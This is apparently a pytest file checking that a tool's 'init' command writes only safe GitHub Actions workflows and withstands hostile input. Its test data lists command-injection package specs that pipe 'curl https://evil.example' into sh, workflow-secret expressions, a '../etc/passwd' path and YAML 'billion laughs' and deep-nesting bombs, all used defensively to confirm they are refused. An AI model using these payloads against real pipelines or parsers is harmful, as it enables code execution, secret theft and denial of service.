"""What `init` writes runs nothing it was not meant to, and reading a site never stops the machine.

The generated workflow runs with push rights: every value init puts there is checked and
quoted (actionlint with shellcheck reads every workflow init can write); options with control
characters are refused in one line; a site's `_config.yml` or workflows built to exhaust
memory or the stack are answered quickly by `init` and `doctor`.
"""

from __future__ import annotations

import os
import resource
import shlex
import shutil
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import invoke
from dailypapers.config import CONFIG_FILE
from dailypapers.errors import UnsafeValue
from dailypapers.init import WORKFLOW, config_text, set_top_level, workflow_text
from dailypapers.init_values import package_spec, plain_text
from sites import CHIRPY_DEPLOY_WORKFLOW, add_deploy_workflow, chirpy_site

BIN = Path(sys.executable).parent
COMMIT = "0123456789abcdef0123456789abcdef01234567"
UNDISPATCHABLE = CHIRPY_DEPLOY_WORKFLOW.replace("  workflow_dispatch:\n", "")


def refused(result: object, option: str) -> None:
    """Exit status 2 and one line on stderr naming the option."""
    exit_code, stderr = result.exit_code, result.stderr  # type: ignore[attr-defined]
    assert exit_code == 2, result.output  # type: ignore[attr-defined]
    assert len(stderr.splitlines()) == 1 and stderr.startswith("Error: "), stderr
    assert option in stderr


def files_of(site: Path) -> dict[str, bytes]:
    return {str(p.relative_to(site)): p.read_bytes() for p in sorted(site.rglob("*")) if p.is_file()}


# --- the workflow: what actionlint and shellcheck say of every init path -------------------------


def actionlint(workflow: Path) -> subprocess.CompletedProcess[str]:
    found, shellcheck = shutil.which("actionlint"), shutil.which("shellcheck")
    if found is None or shellcheck is None:
        pytest.skip("actionlint (test extra) or shellcheck (Debian package, .ci/run) is not installed")
    return subprocess.run(
        [found, "-no-color", "-shellcheck", shellcheck, "-pyflakes", "", str(workflow)],
        capture_output=True,
        text=True,
        timeout=120,
    )


def new_site(site: Path) -> list[str]:
    return []


def chirpy_with_deploys(site: Path) -> list[str]:
    chirpy_site(site)
    add_deploy_workflow(site, "pages-deploy.yml")
    add_deploy_workflow(site, "docs_deploy.v2.yaml", UNDISPATCHABLE)
    return []


def ignore_db(site: Path) -> list[str]:
    return ["--ignore-db"]


SITES = {"new site": new_site, "Chirpy with deploy workflows": chirpy_with_deploys, "--ignore-db": ignore_db}
PACKAGES = {
    "pinned": "dailypapers==1.0",
    "range": "dailypapers >= 1.0, < 2",
    "git commit": f"git+https://github.com/owner/daily-papers.fork@{COMMIT}",
    "another name": "dailypapers-fork~=0.3",
}


@pytest.mark.parametrize("package", list(PACKAGES.values()), ids=list(PACKAGES))
@pytest.mark.parametrize("setup", list(SITES.values()), ids=list(SITES))
def test_every_workflow_init_writes_passes_actionlint(tmp_path: Path, setup: object, package: str) -> None:
    site = tmp_path / "blog"
    site.mkdir()
    options = setup(site)  # type: ignore[operator]
    done = invoke("init", str(site), "--package", package, *options)
    assert done.exit_code == 0, done.output
    checked = actionlint(site / WORKFLOW)
    assert checked.returncode == 0, checked.stdout + checked.stderr
    # The install step installs exactly the spec (normalised), as one shell word.
    steps = yaml.safe_load((site / WORKFLOW).read_text())["jobs"]["digest"]["steps"]
    install = ["python", "-m", "pip", "install", "--quiet", package_spec(package)]
    assert shlex.split(steps[2]["run"]) == install


def test_a_workflow_updated_by_package_passes_actionlint(tmp_path: Path) -> None:
    chirpy_with_deploys(tmp_path)
    assert invoke("init", str(tmp_path), "--package", "dailypapers==1.0").exit_code == 0
    # A workflow written by an earlier init (the spec in double quotes) is updated too.
    old = (tmp_path / WORKFLOW).read_text()
    new_form = 'run: "python -m pip install --quiet dailypapers==1.0"'
    (tmp_path / WORKFLOW).write_text(old.replace(new_form, 'run: python -m pip install --quiet "x"'))
    done = invoke("init", str(tmp_path), "--package", "dailypapers<3,>=2")
    assert done.exit_code == 0 and f"updated  {WORKFLOW}" in done.output, done.output
    assert (tmp_path / WORKFLOW).read_text() == old.replace(
        "--quiet dailypapers==1.0", "--quiet 'dailypapers<3,>=2'"
    )
    checked = actionlint(tmp_path / WORKFLOW)
    assert checked.returncode == 0, checked.stdout


# --- refused values ------------------------------------------------------------------------------

HOSTILE_PACKAGES = [
    'x"\n      - run: curl https://evil.example | sh\n#',  # a step of its own
    "dailypapers; curl https://evil.example | sh",
    "dailypapers && id",
    "$(id)",
    "`id`",
    "${{ secrets.HF_TOKEN }}",
    "dailypapers===${{secrets.HF_TOKEN}}",  # `===` takes any text
    "dailypapers===$(id)",
    "dailypapers @ https://evil.example/dailypapers.whl",
    'dailypapers; python_version > "3"',
    "dailypapers[extra]==1.0",
    "git+https://github.com/owner/dailypapers@main",  # a branch moves: only a commit pins
    "git+https://github.com/owner/dailypapers@0123abcd",
    f"git+https://token@github.com/owner/dailypapers@{COMMIT}",  # a credential in the workflow
    f"git+http://github.com/owner/dailypapers@{COMMIT}",
    f"git+ssh://git@github.com/owner/dailypapers@{COMMIT}",
    f"git+https://github.com/owner/dailypapers@{COMMIT} --index-url https://evil.example",
    "--index-url=https://evil.example dailypapers",
    "-e .",
    "/home/me/dailypapers",
    "dailypapers\u202e==1.0",
    "",
]


@pytest.mark.parametrize("package", HOSTILE_PACKAGES)
def test_a_hostile_package_is_refused_in_one_line(tmp_path: Path, package: str) -> None:
    done = invoke("init", str(tmp_path / "new"), "--package", package)
    refused(done, "--package")
    assert not (tmp_path / "new").exists()  # nothing written
    # Nor is a workflow that exists changed.
    assert invoke("init", str(tmp_path), "--package", "dailypapers==1.0").exit_code == 0
    before = files_of(tmp_path)
    refused(invoke("init", str(tmp_path), "--package", package), "--package")
    assert files_of(tmp_path) == before


HOSTILE_NAMES = [
    'pages"deploy.yml',
    "pages$(id).yml",
    "pages`id`.yml",
    "pages deploy.yml",
    "pages;id.yml",
    "${{ github.token }}.yml",
    "-R.yml",  # an option of `gh workflow run`
    "pages\ndeploy.yml",
    "pages\u2028deploy.yml",
    "pages\u202edeploy.yml",
    "pagés.yml",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_deploy_workflow_with_a_hostile_name_is_refused(tmp_path: Path, name: str) -> None:
    add_deploy_workflow(tmp_path, "pages-deploy.yml")
    add_deploy_workflow(tmp_path, name)
    before = files_of(tmp_path)
    done = invoke("init", str(tmp_path), "--package", "dailypapers==1.0")
    refused(done, "deploys the site")
    assert files_of(tmp_path) == before


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(st.characters(codec="utf-8"), max_size=80))
def test_a_package_spec_is_refused_or_one_inert_word(text: str) -> None:
    """Whatever the text: refused, or the install step runs pip with it as one argument and
    nothing GitHub would evaluate."""
    try:
        spec = package_spec(text)
    except UnsafeValue as error:
        assert "\n" not in str(error)
        return
    flow = workflow_text(spec, deploys=["pages-deploy.yml"])
    run = yaml.safe_load(flow)["jobs"]["digest"]["steps"][2]["run"]
    assert shlex.split(run) == ["python", "-m", "pip", "install", "--quiet", spec]
    assert flow.count("${{") == 6  # the template's own: four secrets, token, !cancelled()


# --- options that go into dailypapers.toml and _config.yml ---------------------------------------

CONTROLS = ["\n", "\r", "\t", "\x00", "\x1b", "\x7f", "\x85", "\x9b", "\u2028", "\u202e", "\u2066"]
CONTROLS += ["\ufeff", "\ufffe", "\uffff", "\udc80"]


@pytest.mark.parametrize("char", CONTROLS, ids=[f"U+{ord(c):04X}" for c in CONTROLS])
@pytest.mark.parametrize("option", ["--author", "--timezone", "--language"])
def test_an_option_with_a_control_character_is_refused(tmp_path: Path, option: str, char: str) -> None:
    value = {"--timezone": f"Asia/Seoul{char}", "--language": f"ko{char}"}.get(option, f"lim{char}4349")
    done = invoke("init", str(tmp_path / "new"), "--package", "dailypapers==1.0", option, value)
    refused(done, option)
    assert f"U+{ord(char):04X}" in done.stderr
    assert not (tmp_path / "new").exists()


@pytest.mark.parametrize("zone", ["localtime", "posixrules", "Mars/Base", "../etc/passwd"])
def test_a_time_zone_must_be_a_real_zone(tmp_path: Path, zone: str) -> None:
    refused(invoke("init", str(tmp_path / "new"), "--timezone", zone), "--timezone")


def test_text_options_are_written_as_given(tmp_path: Path) -> None:
    """Quotes, backslashes, TOML and YAML syntax, emoji (with joiners): read back exactly, by
    every later command and by Jekyll's reader, in a new file and an existing one."""
    author = "lim \"4349\" \\ # [x] = {y}: 'z' 👩‍💻 ${{ a }}"
    site = tmp_path / "blog"
    done = invoke("init", str(site), "--package", "dailypapers==1.0", "--author", author)
    assert done.exit_code == 0, done.output
    assert tomllib.loads((site / CONFIG_FILE).read_text())["author"] == author
    assert yaml.safe_load((site / "_config.yml").read_text())["author"] == author
    # In an existing file, a key set on several lines is replaced whole.
    (site / CONFIG_FILE).write_text('author = """a\nb"""  # mine\n\n[daily]\ntop = 5\n')
    again = invoke("init", str(site), "--author", author, "--timezone", "Europe/Paris")
    assert again.exit_code == 0, again.output
    text = (site / CONFIG_FILE).read_text()
    assert tomllib.loads(text) == {"author": author, "timezone": "Europe/Paris", "daily": {"top": 5}}
    assert "# mine" in text


@settings(max_examples=300, deadline=None)
@given(st.text(st.characters(codec="utf-8"), max_size=40))
def test_an_author_is_refused_or_read_back_exactly(author: str) -> None:
    try:
        plain_text("--author", author)
    except UnsafeValue as error:
        assert "\n" not in str(error)
        return
    new = config_text({"author": author})
    assert tomllib.loads(new)["author"] == author
    assert tomllib.loads(set_top_level(new, {"author": author + "!"}))["author"] == author + "!"


# --- a site's YAML built to exhaust the machine --------------------------------------------------

MEMORY = 200 * 2**20  # bytes of address space the command may use


def _laughs(key: str) -> str:
    """A billion laughs: 9**9 strings through aliases, under 600 bytes; ``key`` holds them."""
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"a{i}: &a{i} [{','.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 10)]
    return "\n".join([*lines, f"{key}: *a9", ""])


DEEP = "[" * 20_000 + "]" * 20_000
DEPLOY_JOBS = (
    "jobs:\n  deploy:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/deploy-pages@v4\n"
)
HOSTILE_FILES = {
    "_config.yml bomb": {"_config.yml": _laughs("exclude") + "theme: *a9\nlang: *a9\ntimezone: *a9\n"},
    "_config.yml deep": {"_config.yml": f"exclude: {DEEP}\ntheme: {DEEP}\n"},
    "workflow bomb": {".github/workflows/pages-deploy.yml": _laughs("on") + DEPLOY_JOBS},
    "workflow deep": {".github/workflows/pages-deploy.yml": f"on: {DEEP}\n" + DEPLOY_JOBS},
}


def _limited() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))


@pytest.mark.parametrize("command", ["doctor", "init"])
@pytest.mark.parametrize("files", list(HOSTILE_FILES.values()), ids=list(HOSTILE_FILES))
def test_hostile_yaml_is_answered_within_bounds(tmp_path: Path, files: dict[str, str], command: str) -> None:
    """The real command in a process limited to 200 MB of memory: one line on what it could not
    read, never a crash (MemoryError, RecursionError). The timeout only guards against a hang."""
    site = tmp_path / "blog"
    for relative, text in files.items():
        (site / relative).parent.mkdir(parents=True, exist_ok=True)
        (site / relative).write_text(text, encoding="utf-8")
    (site / CONFIG_FILE).write_text("", encoding="utf-8")  # doctor asks whether Jekyll publishes it
    args = ["doctor", "--site", str(site)] if command == "doctor" else ["init", str(site), "--package", "x"]
    done = subprocess.run(
        [str(BIN / "dailypapers"), *args],
        preexec_fn=_limited,
        capture_output=True,
        text=True,
        timeout=300,
        env={**os.environ, "HF_ENDPOINT": "http://127.0.0.1:9", "DAILYPAPERS_TRACEBACK": ""},
    )
    output = done.stdout + done.stderr
    assert "unexpected" not in output and "Traceback" not in output, output[-2000:]
    if command == "init":
        assert done.returncode == 0, output
    else:  # the Hub at a closed port fails its check
        assert "FAIL  hub:" in output and done.returncode == 1, output
    if "_config.yml" in files:
        assert "_config.yml is not read:" in output
    else:  # a workflow naming actions/deploy-pages that is not read: it is named
        assert ".github/workflows/pages-deploy.yml is not read (" in output


def test_keys_of_the_wrong_type_are_ignored_with_a_warning(tmp_path: Path) -> None:
    """Only the keys dailypapers reads, each of its type: another type is named and left out."""
    (tmp_path / "_config.yml").write_text(
        "lang: [ko]\ntimezone: 9\ntheme: {name: chirpy}\ndefaults: 5\nexclude: [dailypapers.toml]\n"
        "future: yes please\npermalink: [a]\ntitle: [any, type]\n",
        encoding="utf-8",
    )
    (tmp_path / "_posts").mkdir()
    (tmp_path / "_posts" / "2026-02-05-a.md").write_text("---\ntitle: a\n---\n", encoding="utf-8")
    done = invoke("init", str(tmp_path), "--package", "dailypapers==1.0")
    assert done.exit_code == 0, done.output
    for key, what in [("lang", "a list, not text"), ("defaults", "a number, not a list"), ("future", "text")]:
        assert f"`{key}` is {what}" in done.stderr
    assert "title" not in done.stderr  # not a key dailypapers reads
    doctor = invoke("doctor", "--site", str(tmp_path), endpoint="http://127.0.0.1:9")
    assert "unexpected" not in doctor.output, doctor.output
    assert "warn  site: " in doctor.output and "`defaults` is a number, not a list: ignored" in doctor.output


@pytest.mark.parametrize("front", [_laughs("categories"), f"slug: {DEEP}\n"], ids=["bomb", "deep"])
def test_doctor_reads_a_hostile_front_matter_within_bounds(tmp_path: Path, front: str) -> None:
    """doctor reads every post's front matter (to find the URL Jekyll gives it): a post built
    to exhaust memory or the stack is named as not read."""
    site = tmp_path / "blog"
    (site / "_posts").mkdir(parents=True)
    (site / "_config.yml").write_text("title: blog\n", encoding="utf-8")
    (site / "_posts" / "2026-02-05-a.md").write_text(f"---\n{front}---\nhello\n", encoding="utf-8")
    done = subprocess.run(
        [str(BIN / "dailypapers"), "doctor", "--site", str(site)],
        preexec_fn=_limited,
        capture_output=True,
        text=True,
        timeout=300,
        env={**os.environ, "HF_ENDPOINT": "http://127.0.0.1:9", "DAILYPAPERS_TRACEBACK": ""},
    )
    output = done.stdout + done.stderr
    assert "unexpected" not in output and done.returncode == 1, output[-2000:]
    assert "2026-02-05-a.md: its front matter cannot be read (YAMLRefused)" in output


@pytest.mark.parametrize(
    ("content", "why"), [(b'run: "\xff"\n', "not UTF-8 text"), (b"#" * 300_000, "larger than 256 KB")]
)
def test_a_workflow_package_cannot_read_is_named_and_kept(tmp_path: Path, content: bytes, why: str) -> None:
    (tmp_path / WORKFLOW).parent.mkdir(parents=True)
    (tmp_path / WORKFLOW).write_bytes(content)
    done = invoke("init", str(tmp_path), "--package", "dailypapers==1.0")
    assert done.exit_code == 1 and done.stderr == f"Error: {WORKFLOW}: {why}: --package not applied\n"
    assert (tmp_path / WORKFLOW).read_bytes() == content
